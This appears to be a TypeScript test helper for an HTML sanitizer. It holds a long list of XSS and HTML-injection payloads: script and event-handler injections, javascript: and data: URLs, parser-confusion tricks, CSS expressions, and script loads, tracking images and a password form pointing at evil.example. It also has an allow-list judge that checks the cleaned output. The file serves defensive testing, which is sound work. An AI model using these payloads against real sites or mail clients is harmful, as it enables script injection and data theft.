// What tests of the HTML cleaner share: attacks, and a judge that reads the result with a parser of its own.
import { Parser } from 'htmlparser2';

/** Attacks of published kinds, each able to run script, load something or lead astray in some mail program or browser. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/xss src="http://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img """><script>alert(1)</script>">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/png;base64,AAAA&quot; onerror=alert(1) x=&quot;">',
  '<img src="javascript:alert(1)">',
  '<img srcset="http://evil.example/t.gif 1x" src="//evil.example/t.gif">',
  '<img lowsrc="http://evil.example/t.gif" dynsrc="http://evil.example/t.gif">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="\\\\evil.example\\x">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="http:evil.example">x</a>',
  '<a href="http:/evil.example">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="/console/delete?id=1">x</a>',
  '<a href="?logout">x</a>',
  '<a href="ftp://evil.example/">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="cid:part1">x</a>',
  '<a href="https://a.example" onmouseover="alert(1)" target="_top" ping="http://evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img src="</noembed><img src=x onerror=alert(1)>">',
  '<title><img src="</title><img src=x onerror=alert(1)>">',
  '<textarea><img src="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><img src="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel=stylesheet href="http://evil.example/x.css"><style>@import "http://evil.example/x.css";</style>',
  '<body onload=alert(1) background="http://evil.example/t.gif">x',
  '<table background="http://evil.example/t.gif"><tr><td background="javascript:alert(1)">x',
  '<div style="background:url(http://evil.example/t.gif)">x</div>',
  '<div style="background-image:url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="wid\\th:e\\xpression(alert(1))">x</div>',
  '<div style="color:red;/*x*/background:/**/url(//evil.example)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="margin-top:-500px;margin:-1px 0 0 -1px">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#a)">x</div>',
  '<div style="color:red}</style><script>alert(1)</script>">x</div>',
  '<div style="font-family:\'a;b\'c&quot;;color:re\\64">x</div>',
  '<div style="font-family:x&quot; onmouseover=alert(1) y=&quot;">x</div>',
  '<div id=login class="btn" name=x contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php <img src=x onerror=alert(1)> ?>',
  '</p><img src=x onerror=alert(1)//>',
  '<a href="https://ok.example" title="&quot; onclick=&quot;alert(1)">x</a>',
  '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src="https://evil.example/t.gif">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  "<p title='<img src=x onerror=alert(1)>'>x</p>",
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video poster="http://evil.example/t.gif"><source src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><bgsound src="javascript:alert(1)"><layer src="http://evil.example">',
  '<p/onclick=alert(1)>x<p onclick\n=\nalert(1)>y<p a=1onclick=alert(1)>',
  '<img src="gatepost-image:0"><img src="gatepost-image:99999">',
  '<a href="gatepost-image:0">x</a>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x on\u0000error=alert(1)>',
];

const ELEMENTS = new Set(
  'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'align alt bgcolor border cellpadding cellspacing color colspan dir face height href hspace lang noshade nowrap rel rowspan size span src start style target title type valign value vspace width'.split(
    ' ',
  ),
);
const PLAIN_IMAGE = /^data:image\/(?:png|jpeg|gif|webp|bmp);base64,[A-Za-z0-9+/]+={0,2}$/;
const PLAIN_LINK = /^(?:https?:\/\/[^\s/\\?#][^\s]*|mailto:[^\s]+|tel:[^\s]+)$/i;
const BAD_STYLE =
  /url|expression|@|\\|\/\*|position|behavior|binding|image|javascript|[<>{}=]|(?:margin|padding|indent|top|left)[^;]*-\d/i;

/** Everything in `html` that must not be there, in words; empty when it is clean. */
export function dangers(html: string): string[] {
  const found: string[] = [];
  const judge = new Parser({
    onopentag(name, attributes) {
      if (!ELEMENTS.has(name)) found.push(`element ${name}`);
      for (const [attribute, value] of Object.entries(attributes)) found.push(...wrongs(name, attribute, value));
      if (name === 'a' && attributes.href !== undefined && !/\bnoopener\b/.test(attributes.rel ?? ''))
        found.push('rel');
    },
    oncomment: () => found.push('comment'),
    onprocessinginstruction: () => found.push('processing instruction'),
  });
  judge.end(html);
  if (/<\/?(?!\/?[a-z][a-z0-9]*[ >])/.test(html)) found.push('stray bracket');
  return found;
}

function wrongs(element: string, attribute: string, value: string): string[] {
  const where = `${element} ${attribute}="${value.slice(0, 80)}"`;
  if (!ATTRIBUTES.has(attribute)) return [where];
  if (attribute === 'href' && !PLAIN_LINK.test(value)) return [where];
  if (attribute === 'src' && !PLAIN_IMAGE.test(value)) return [where];
  if (attribute === 'style' && BAD_STYLE.test(value)) return [where];
  return [];
}

/** Ms of processor time that `work` takes in this process: what a busy machine does not change. */
export function cpuMs(work: () => unknown): number {
  const before = process.cpuUsage();
  work();
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1_000;
}
